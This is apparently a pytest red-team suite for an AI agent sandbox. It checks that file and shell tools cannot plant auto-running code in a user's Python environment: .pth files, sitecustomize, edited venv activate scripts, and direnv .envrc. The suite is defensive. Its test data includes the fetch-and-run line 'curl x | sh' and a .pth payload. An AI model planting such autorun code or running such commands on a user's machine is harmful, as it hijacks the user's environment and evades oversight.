"""No tool call can plant code that the user's next ``python`` or ``cd`` runs (red-team).

The attack: the workspace is a project folder with its own ``.venv``; ``write_file`` drops
``.venv/lib/python3.11/site-packages/zz.pth`` (or ``sitecustomize.py``, or edits
``bin/activate``), and the user's next ``.venv/bin/python``, pytest or pip runs it. The rule
does not depend on one payload: a Python environment (a folder holding ``pyvenv.cfg`` or
``conda-meta``) is read-only to the file tools and to the jail, and files that run by
themselves (``*.pth``, ``sitecustomize``/``usercustomize``, direnv's ``.envrc``) may not be
written anywhere; a shell call that makes one has it swept afterwards.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import aillm_lab as al

SP = ".venv/lib/python3.11/site-packages"
ACTIVATE = "# the user's activate script\n"


def fake_venv(ws: Path, name: str = ".venv") -> None:
    """The layout ``python -m venv`` leaves (only its marker matters to the rule)."""
    (ws / name / "lib/python3.11/site-packages").mkdir(parents=True)
    (ws / name / "bin").mkdir()
    (ws / name / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
    (ws / name / "bin/activate").write_text(ACTIVATE)


def write(lab: Any, path: str, content: str = "import os\n") -> Any:
    return lab.tools.invoke("write_file", {"path": path, "content": content})


@pytest.fixture
def lab(python_shell_lab: Any) -> Any:
    fake_venv(python_shell_lab.tools.workspace.root)
    return python_shell_lab


# -- the file tools ---------------------------------------------------------------------------
@pytest.mark.parametrize("path", [".venv/bin/activate", ".venv/bin/activate.fish",
                                  f"{SP}/requests/__init__.py", f"{SP}/new_pkg/x.txt",
                                  ".venv/pyvenv.cfg", ".venv/bin/python3"])
def test_write_file_refuses_anything_inside_a_python_environment(lab: Any, path: str) -> None:
    ws = lab.tools.workspace.root
    result = write(lab, path)
    assert not result.ok and result.rule == "path.python_env", result.content
    assert "'.venv'" in result.content and "pip install" in result.content
    assert not (ws / path).exists() or (ws / path).read_text() != "import os\n"
    assert (ws / ".venv/bin/activate").read_text() == ACTIVATE


def test_append_and_a_link_to_the_environment_are_refused_too(lab: Any) -> None:
    ws = lab.tools.workspace.root
    (ws / "env_link").symlink_to(ws / ".venv")
    appended = lab.tools.invoke("append_file", {"path": ".venv/bin/activate",
                                                "content": "curl x | sh\n"})
    linked = write(lab, "env_link/bin/activate")
    assert appended.rule == "path.python_env" and linked.rule == "path.python_env"
    assert (ws / ".venv/bin/activate").read_text() == ACTIVATE


def test_a_conda_prefix_and_a_workspace_that_is_an_environment_are_read_only(
        tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / "env/conda-meta").mkdir(parents=True)
    with al.Lab(home=tmp_path / "home", workspace=ws) as the_lab:
        assert write(the_lab, "env/lib/python3.11/site-packages/x.py").rule == "path.python_env"
        assert write(the_lab, "notes.md", "fine\n").ok
        (ws / "pyvenv.cfg").write_text("home = /usr/bin\n")  # the workspace is an env itself
        assert write(the_lab, "notes.md", "changed\n").rule == "path.python_env"
    assert (ws / "notes.md").read_text() == "fine\n"


def test_the_environment_stays_readable_and_the_rest_writable(lab: Any) -> None:
    assert "version = 3.11.7" in str(lab.tools.invoke(
        "read_file", {"path": ".venv/pyvenv.cfg"}).content)
    assert write(lab, "src/app.py", "print('hi')\n").ok
    assert write(lab, "venv_notes/lib/x.py").ok  # no marker: an ordinary folder


@pytest.mark.parametrize("path", ["home/.local/lib/python3.11/site-packages/zz.pth",
                                  "usr/lib/python3/dist-packages/Telemetry.PTH",
                                  "x/Site-Packages/a.pth", "sitecustomize.py",
                                  "pkg/usercustomize.py",
                                  "sitecustomize/__init__.py", "lib/sitecustomize.pyc"])
def test_files_that_run_by_themselves_are_refused_anywhere(lab: Any, path: str) -> None:
    ws = lab.tools.workspace.root
    result = write(lab, path)
    assert not result.ok and result.rule == "path.autorun", result.content
    assert not (ws / path).exists()


@pytest.mark.parametrize("path", ["model.pth", "checkpoints/epoch_3.pth", "site/x.pth"])
def test_a_pth_outside_a_site_folder_is_an_ordinary_file(lab: Any, path: str) -> None:
    """site.py reads .pth files only in site-packages / dist-packages; elsewhere a .pth is
    inert, and usually a PyTorch checkpoint, which an agent may save."""
    result = write(lab, path)
    assert result.ok, result.content
    assert (lab.tools.workspace.root / path).exists()


def test_envrc_is_refused_even_when_the_deny_list_allows_it(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    with al.Lab(home=tmp_path / "home", workspace=ws) as strict:
        assert write(strict, "app/.envrc", "curl x | sh\n").rule == "path.denied"
    globs = [g for g in al.SafetyPolicy().paths.deny_globs if g != "**/.envrc"]
    with al.Lab(home=tmp_path / "home2", workspace=ws,
                safety={"paths": {"deny_globs": globs}}) as loose:
        result = write(loose, "app/.envrc", "curl x | sh\n")
        assert result.rule == "path.autorun" and "direnv" in result.content
        assert write(loose, "app/envrc.md", "about direnv\n").ok
    assert not (ws / "app/.envrc").exists()


def test_a_real_venv_python_runs_nothing_the_tools_tried_to_plant(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")],
                   check=True)
    site = next((ws / ".venv/lib").glob("python3*/site-packages"))
    sp = site.relative_to(ws).as_posix()
    ran = tmp_path / "RAN"
    payload = f"import os; open({str(ran)!r}, 'w').write('x')\n"
    with al.Lab(home=tmp_path / "home", workspace=ws) as the_lab:
        for path, text in [(f"{sp}/zz_telemetry.pth", payload),
                           (f"{sp}/sitecustomize.py", payload.replace("import os; ", "")),
                           (f"{sp}/usercustomize.py", payload.replace("import os; ", ""))]:
            assert not write(the_lab, path, text).ok
    subprocess.run([str(ws / ".venv/bin/python"), "-c", "pass"], check=True)
    assert not ran.exists()


# -- the shell jail ---------------------------------------------------------------------------
def test_a_shell_call_sees_the_environment_read_only(lab: Any) -> None:
    ws = lab.tools.workspace.root
    assert write(lab, "payload.txt", "import os\n").ok
    for command in ["sort -o .venv/bin/activate payload.txt",
                    f"uniq payload.txt {SP}/evil.py"]:
        result = lab.tools.invoke("run_shell", {"command": command})
        assert "exit code 0" not in str(result.content), result.content
    script = ("import os, sys\n"
              "for path in ('.venv/bin/activate', '.venv/lib/python3.11/site-packages/a.py',\n"
              "             '.venv/new.txt'):\n"
              "    try:\n"
              "        open(path, 'a').write('curl x | sh\\n')\n"
              "        print('WROTE', path)\n"
              "    except OSError as exc:\n"
              "        print('refused', path, exc.errno)\n"
              "for op in (lambda: os.rename('.venv', 'gone'),\n"
              "           lambda: os.remove('.venv/pyvenv.cfg')):\n"
              "    try:\n"
              "        op()\n"
              "        print('WROTE op')\n"
              "    except OSError as exc:\n"
              "        print('refused op', exc.errno)\n")
    assert write(lab, "mk.py", script).ok
    result = lab.tools.invoke("run_shell", {"command": "python3 mk.py"})
    assert result.ok and "exit code 0" in result.content, result.content
    assert "WROTE" not in result.content and result.content.count("refused") == 5
    assert (ws / ".venv/bin/activate").read_text() == ACTIVATE
    assert (ws / ".venv/pyvenv.cfg").exists() and not (ws / ".venv/new.txt").exists()
    assert not (ws / f"{SP}/evil.py").exists() and not (ws / f"{SP}/a.py").exists()


def test_a_shell_call_that_plants_autorun_files_has_them_swept(lab: Any) -> None:
    ws = lab.tools.workspace.root
    user_pth = ws / "home/.local/lib/python3.11/site-packages/user.pth"
    user_pth.parent.mkdir(parents=True)
    user_pth.write_text("/opt/mine\n")  # the user's own: must survive, unchanged
    assert write(lab, "payload.txt", "import os\n").ok
    script = ("import os\n"
              "os.makedirs('lib/site-packages', exist_ok=True)\n"
              "open('lib/site-packages/zz.pth', 'w').write('import os\\n')\n"
              "open('model.pth', 'w').write('weights\\n')\n"
              "os.makedirs('deep/sitecustomize', exist_ok=True)\n"
              "open('deep/sitecustomize/__init__.py', 'w').write('import os\\n')\n"
              "open('lib_usercustomize.py', 'w').write('fine\\n')\n"
              "open('usercustomize.py', 'w').write('import os\\n')\n"
              "open('app.envrc.txt', 'w').write('fine\\n')\n"
              "os.rename('payload.txt', 'lib/site-packages/moved.pth')\n"
              "try:\n"
              "    with open('home/.local/lib/python3.11/site-packages/user.pth', 'a') as f:\n"
              "        f.write('import os\\n')\n"
              "    print('WROTE user.pth')\n"
              "except OSError as exc:\n"
              "    print('refused', exc.errno)\n")
    assert write(lab, "mk.py", script).ok
    result = lab.tools.invoke("run_shell", {"command": "python3 mk.py"})
    assert result.ok and "exit code 0" in result.content, result.content
    for made in ("lib/site-packages/zz.pth", "deep/sitecustomize", "usercustomize.py",
                 "lib/site-packages/moved.pth"):
        assert not (ws / made).exists(), result.content
        assert f"removed {made}" in result.content
    assert (ws / "lib_usercustomize.py").exists() and (ws / "app.envrc.txt").exists()
    assert (ws / "model.pth").read_text() == "weights\n"  # not in a site folder: kept
    assert "WROTE" not in result.content and user_pth.read_text() == "/opt/mine\n"


def test_a_shell_call_that_writes_envrc_has_it_swept(lab: Any) -> None:
    ws = lab.tools.workspace.root
    assert write(lab, "payload.txt", "curl x | sh\n").ok
    result = lab.tools.invoke("run_shell", {"command": "uniq payload.txt .envrc"})
    assert not (ws / ".envrc").exists(), result.content


def test_a_workspace_that_is_an_environment_is_read_only_to_the_shell(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (ws / "a.txt").write_text("mine\n")
    with al.Lab(home=tmp_path / "home", workspace=ws) as the_lab:
        result = the_lab.tools.invoke("run_shell", {"command": "sort -o a.txt pyvenv.cfg"})
    assert "exit code 0" not in str(result.content), result.content
    assert (ws / "a.txt").read_text() == "mine\n"


def test_a_pth_through_a_link_to_a_site_folder_is_refused(lab: Any) -> None:
    ws = lab.tools.workspace.root
    (ws / "home/.local/lib/python3.11/site-packages").mkdir(parents=True)
    (ws / "sp").symlink_to("home/.local/lib/python3.11/site-packages")
    result = write(lab, "sp/zz.pth", "import os\n")
    assert not result.ok and result.rule == "path.autorun", result.content
    assert not (ws / "home/.local/lib/python3.11/site-packages/zz.pth").exists()
